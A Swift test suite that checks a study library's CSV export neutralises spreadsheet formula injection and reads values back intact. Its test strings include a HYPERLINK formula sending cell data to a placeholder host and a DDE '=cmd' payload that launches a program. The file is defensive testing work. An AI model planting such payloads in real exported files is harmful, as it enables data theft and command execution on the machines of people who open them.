import HoneCore
import HoneFormats
import Testing

/// Cells that a spreadsheet would run.
@Suite struct SpreadsheetTests {
  private static let texts = [
    #"=HYPERLINK("http://x.example/?"&A1,"more")"#, "=cmd|' /C calc'!A0", "+1+1", "-O2", "-1+1",
    "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'", "''", "'quoted'", "-", "=", "＝1", "－1",
    "-1", "+1", "-1e5", "plain", "1", "", "\ttab\t", " =1", "-inf", "a=b",
  ]

  @Test("Texts that a spreadsheet would run stand behind an apostrophe, and read back exactly")
  func texts() throws {
    let space = try SearchSpace([
      .choice("c", Self.texts.map { .string($0) }), .float("x", in: -5...5),
    ])
    let study = try StudyDefinition(
      name: "s", space: space, objectives: [.minimize("loss")], sampler: AlgorithmSpec("random"),
      pruner: AlgorithmSpec("none"), seed: 1)
    let table = TrialTable(study)
    var text = table.header
    for (number, choice) in Self.texts.enumerated() {
      let point = Point(raw: [Double(number), -0.5])
      var trial = Trial(
        number: number, state: .failed, parameters: Parameters(space.values(of: point)), attempt: 1)
      trial.reason = choice
      text += table.row(of: trial)
      let row = table.row(of: trial).dropLast()
      // Numbers stay numbers.
      #expect(row.contains(",-0.5,"), "\(row)")
      for field in row.dropFirst("\(number),failed,".count).split(separator: ",") {
        let cell = field.drop { $0 == "\"" }
        let isNumber = Double(String(cell.filter { $0 != "\"" && !$0.isNewline })) != nil
        #expect(isNumber || cell.first.map { !"=+-@\t\r\n＝－".contains($0) } ?? true, "\(row)")
      }
    }
    var bytes: [UInt8]? = Array(text.utf8)
    var reader = try TrialTableReader(
      { bytes.take() ?? [] }, file: "f.csv", space: space, objectives: study.objectives)
    for (number, choice) in Self.texts.enumerated() {
      let record = try #require(try reader.next())
      #expect(record.point?.raw == [Double(number), -0.5], "\(choice)")
      // An empty cell is a reason that nobody knows.
      #expect(record.reason ?? "" == choice)
    }
    #expect(try reader.next() == nil)
  }
}
